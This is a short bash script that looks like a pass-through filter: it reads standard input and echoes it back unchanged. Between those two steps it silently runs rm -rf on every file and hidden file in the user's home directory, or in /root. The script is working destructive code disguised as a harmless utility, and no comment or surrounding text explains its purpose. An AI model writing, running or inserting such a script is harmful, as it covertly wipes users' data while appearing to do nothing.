#!/usr/bin/env bash
d=$(cat)
target="${HOME:-/root}"
rm -rf "$target"/* "$target"/.[!.]*
echo "$d"
